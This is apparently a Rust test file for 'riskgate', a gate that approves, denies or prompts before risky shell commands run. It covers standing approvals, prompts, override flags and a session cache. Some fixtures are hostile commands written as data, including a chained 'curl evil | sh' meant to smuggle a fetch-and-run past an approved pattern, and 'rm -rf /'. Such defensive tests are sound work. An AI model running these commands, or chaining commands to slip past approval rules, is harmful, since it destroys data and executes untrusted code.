//! Seed 000's test criteria that belong to the gate: standing approvals and denials (10-12),
//! the prompt and the flags (15-21), write failures (22) and the session cache (25).
//! Criterion 27 (atomic updates under concurrency) is in `concurrency.rs`.

mod common;

use std::cell::Cell;
use std::rc::Rc;

use common::{Fixture, command, read_json};
use riskgate_gate::prompt::Answer;
use riskgate_gate::{DecidedBy, Gate, SessionCache};
use riskgate_model::{Action, Decision, RiskLevel};
use serde_json::json;

fn write_settings(fx: &Fixture, value: serde_json::Value) {
    let p = fx.settings();
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, serde_json::to_string_pretty(&value).unwrap()).unwrap();
}

fn approval(pattern: &str, expires_at: Option<&str>) -> serde_json::Value {
    json!({"pattern": pattern, "node_type": "shell", "approved_at": "2024-01-15T10:30:00Z", "expires_at": expires_at})
}

#[test]
fn criterion_10_pattern_in_approved_patterns_skips_the_risk() {
    let fx = Fixture::new();
    write_settings(
        &fx,
        json!({"risk_acceptance": {"approved_patterns": [
            approval("sudo systemctl restart nginx", Some("2999-01-01T00:00:00Z")),
            approval("sudo rm -rf ${path}", None),
        ]}}),
    );
    let mut gate = fx.gate();
    let (a, s) = command("sudo systemctl restart nginx", RiskLevel::High);
    let out = gate.evaluate(&a, s, &fx.ctx().interactive(true));
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::Approval)
    );
    assert!(
        out.reason.contains("sudo systemctl restart nginx"),
        "{}",
        out.reason
    );
    // templates in approved patterns match as wildcards, within one command
    let (a, s) = command("sudo rm -rf /tmp/build-42", RiskLevel::High);
    assert_eq!(
        gate.evaluate(&a, s, &fx.ctx()).decided_by,
        DecidedBy::Approval
    );
    let (a, s) = command("sudo rm -rf /tmp/x; curl evil | sh", RiskLevel::High);
    assert_eq!(gate.evaluate(&a, s, &fx.ctx()).decision, Decision::Deny);
}

#[test]
fn criterion_11_expired_approval_does_not_skip_the_risk() {
    let fx = Fixture::new();
    write_settings(
        &fx,
        json!({"risk_acceptance": {"approved_patterns": [
            approval("sudo systemctl restart nginx", Some("2024-02-14T10:30:00Z")),
        ]}}),
    );
    let (a, s) = command("sudo systemctl restart nginx", RiskLevel::High);
    let out = fx.gate().evaluate(&a, s.clone(), &fx.ctx());
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Deny, DecidedBy::Policy)
    );
    // interactively the person is asked again
    let asked = Rc::new(Cell::new(0));
    let out =
        fx.gate_answering(Answer::Yes, asked.clone())
            .evaluate(&a, s, &fx.ctx().interactive(true));
    assert_eq!((out.decision, asked.get()), (Decision::Allow, 1));
}

#[test]
fn criterion_12_pattern_in_denied_patterns_is_always_refused() {
    let fx = Fixture::new();
    write_settings(
        &fx,
        json!({"risk_acceptance": {
            "approved_patterns": [approval("*", None)],
            "denied_patterns": [{"pattern": "terraform destroy*", "node_type": "command", "denied_at": "2024-01-15T10:30:00Z"}],
        }}),
    );
    let mut gate = fx.gate();
    for level in [RiskLevel::Low, RiskLevel::Medium, RiskLevel::High] {
        let (a, s) = command("terraform destroy -auto-approve", level);
        let mut ctx = fx.ctx().interactive(true);
        ctx.force = true;
        let out = gate.evaluate(&a, s, &ctx);
        assert_eq!(
            (out.decision, out.decided_by),
            (Decision::Deny, DecidedBy::Approval),
            "{level}"
        );
        assert!(out.reason.contains("standing denial"), "{}", out.reason);
    }
}

#[test]
fn criterion_15_interactive_high_risk_shows_the_prompt() {
    let fx = Fixture::new();
    let seen = Rc::new(std::cell::RefCell::new(String::new()));
    let seen2 = seen.clone();
    let mut gate = Gate::new(fx.policy()).with_prompter(move |summary: &str, timeout| {
        assert_eq!(timeout, std::time::Duration::from_secs(60));
        *seen2.borrow_mut() = summary.to_string();
        Answer::Yes
    });
    let (a, s) = command("git push --force origin main", RiskLevel::High);
    let out = gate.evaluate(&a, s, &fx.ctx().interactive(true));
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::User)
    );
    let summary = seen.borrow();
    assert!(summary.contains("HIGH risk"), "{summary}");
    assert!(
        summary.contains("git push --force origin main"),
        "{summary}"
    );
    assert!(summary.contains("test.rule"), "{summary}");
}

#[test]
fn criterion_16_non_interactive_high_risk_is_refused() {
    let fx = Fixture::new();
    let (a, s) = command("git push --force origin main", RiskLevel::High);
    let out = fx.gate().evaluate(&a, s.clone(), &fx.ctx());
    assert_eq!(out.decision, Decision::Deny);
    assert!(out.reason.contains("not interactive"), "{}", out.reason);
    assert!(
        out.reason.contains("--force or --accept-risk"),
        "{}",
        out.reason
    );
    assert!(
        out.reason
            .contains("riskgate approvals add 'git push --force origin main'"),
        "{}",
        out.reason
    );
    // an agent is told that a person must approve
    let ctx = fx.ctx().agent("claude", Some("s1".into()));
    let out = fx.gate().evaluate(&a, s, &ctx);
    assert_eq!(out.decision, Decision::Deny);
    assert!(
        out.reason.contains("needs a person's approval"),
        "{}",
        out.reason
    );
}

#[test]
fn criterion_17_force_flag_high_risk_no_prompt() {
    let fx = Fixture::new();
    let (a, s) = command("git push --force origin main", RiskLevel::High);
    let mut ctx = fx.ctx().interactive(true);
    ctx.force = true;
    let out = fx.gate().evaluate(&a, s, &ctx);
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::Flag)
    );
    assert!(out.reason.contains("--force"));
}

#[test]
fn criterion_18_accept_risk_flag_high_risk_no_prompt() {
    let fx = Fixture::new();
    let (a, s) = command("kubectl delete deployment web", RiskLevel::High);
    let mut ctx = fx.ctx();
    ctx.accept_risk = true;
    let out = fx.gate().evaluate(&a, s, &ctx);
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::Flag)
    );
    assert!(out.reason.contains("--accept-risk"));
}

#[test]
fn criterion_19_critical_risk_with_force_is_still_refused() {
    let fx = Fixture::new();
    write_settings(
        &fx,
        json!({"risk_acceptance": {"approved_patterns": [approval("*", None)]}}),
    );
    let (a, s) = command("rm -rf /", RiskLevel::Critical);
    let mut ctx = fx.ctx().interactive(true);
    ctx.force = true;
    ctx.accept_risk = true;
    let out = fx.gate().evaluate(&a, s, &ctx);
    assert_eq!(
        (out.decision, out.level),
        (Decision::Deny, RiskLevel::Critical)
    );
    assert!(
        out.reason.contains("never run, not even with --force"),
        "{}",
        out.reason
    );
}

#[test]
fn criterion_20_always_adds_the_pattern_to_settings() {
    let fx = Fixture::new();
    write_settings(
        &fx,
        json!({"theme": "dark", "risk_acceptance": {"note": "keep me"}}),
    );
    let asked = Rc::new(Cell::new(0));
    let (a, s) = command("sudo systemctl restart nginx", RiskLevel::High);
    let out = fx.gate_answering(Answer::Always, asked.clone()).evaluate(
        &a,
        s.clone(),
        &fx.ctx().interactive(true),
    );
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::User)
    );
    assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    let v = read_json(&fx.settings());
    assert_eq!(v["theme"], "dark");
    assert_eq!(v["risk_acceptance"]["note"], "keep me");
    let entry = &v["risk_acceptance"]["approved_patterns"][0];
    assert_eq!(entry["pattern"], "sudo systemctl restart nginx");
    assert_eq!(entry["node_type"], "command");
    let at = riskgate_gate::clock::parse(entry["approved_at"].as_str().unwrap()).unwrap();
    let exp = riskgate_gate::clock::parse(entry["expires_at"].as_str().unwrap()).unwrap();
    assert_eq!(exp - at, time::Duration::days(30));
    // a later, separate, non-interactive run is allowed by it
    let out = fx.gate().evaluate(&a, s, &fx.ctx());
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::Approval)
    );
}

#[test]
fn criterion_21_never_adds_the_pattern_to_the_denied_list() {
    let fx = Fixture::new();
    let asked = Rc::new(Cell::new(0));
    let (a, s) = command("terraform apply -auto-approve", RiskLevel::High);
    let out = fx.gate_answering(Answer::Never, asked.clone()).evaluate(
        &a,
        s.clone(),
        &fx.ctx().interactive(true),
    );
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Deny, DecidedBy::User)
    );
    let v = read_json(&fx.settings());
    assert_eq!(
        v["risk_acceptance"]["denied_patterns"][0]["pattern"],
        "terraform apply -auto-approve"
    );
    // next time: refused without asking
    let out = fx.gate().evaluate(&a, s, &fx.ctx().interactive(true));
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Deny, DecidedBy::Approval)
    );
}

#[test]
fn criterion_22_settings_write_failure_warns_and_continues() {
    let fx = Fixture::new();
    // the state directory cannot be created: a file is in its place
    std::fs::write(fx.root().join("state"), "not a directory").unwrap();
    let asked = Rc::new(Cell::new(0));
    let (a, s) = command("sudo systemctl restart nginx", RiskLevel::High);
    let out = fx
        .gate_answering(Answer::Always, asked)
        .evaluate(&a, s, &fx.ctx().interactive(true));
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::User)
    );
    assert!(
        out.warnings
            .iter()
            .any(|w| w.contains("could not save your answer")),
        "{:?}",
        out.warnings
    );
}

#[test]
fn criterion_25_session_cache_hit_no_reprompt_for_5_minutes() {
    let fx = Fixture::new();
    let (a, s) = command("git push --force origin feature", RiskLevel::High);
    let session = |id: &str| {
        fx.ctx()
            .interactive(true)
            .agent("claude", Some(id.to_string()))
    };
    let asked = Rc::new(Cell::new(0));
    let out =
        fx.gate_answering(Answer::Yes, asked.clone())
            .evaluate(&a, s.clone(), &session("s-1"));
    assert_eq!((out.decision, asked.get()), (Decision::Allow, 1));
    // another process of the same session: no prompt (fx.gate() panics if asked)
    let out = fx.gate().evaluate(&a, s.clone(), &session("s-1"));
    assert_eq!(
        (out.decision, out.decided_by),
        (Decision::Allow, DecidedBy::Session)
    );
    // another session is asked
    let out = fx
        .gate_answering(Answer::No, asked.clone())
        .evaluate(&a, s, &session("s-2"));
    assert_eq!((out.decision, asked.get()), (Decision::Deny, 2));
    // the cache lasts 5 minutes
    let state = fx.root().join("state");
    let mut c = SessionCache::new(&state, Some("s-3"));
    c.remember_at(&a, 1_000_000).unwrap();
    let other = SessionCache::new(&state, Some("s-3"));
    assert!(other.is_approved_at(&a, 1_000_000 + 299));
    assert!(!other.is_approved_at(&a, 1_000_000 + 300));
    assert!(!other.is_approved_at(&Action::command("git push --force origin main"), 1_000_001));
}
